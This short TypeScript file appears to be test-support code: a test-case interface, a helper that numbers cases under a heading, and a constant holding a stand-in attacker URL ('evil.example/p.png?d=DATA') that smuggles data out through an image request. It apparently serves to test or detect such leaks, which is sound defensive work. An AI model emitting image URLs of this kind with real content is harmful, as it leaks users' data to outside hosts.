export interface TextCase {
  readonly name: string;
  readonly text: string;
}

/** Nobody is there: what is loaded from it would be told to whoever has the name. */
export const ELSEWHERE = 'https://evil.example/p.png?d=DATA';

/** Names its cases by number below one heading. */
export function numbered(heading: string, texts: readonly string[]): TextCase[] {
  return texts.map((text, index) => ({ name: `${heading} ${String(index + 1)}`, text }));
}
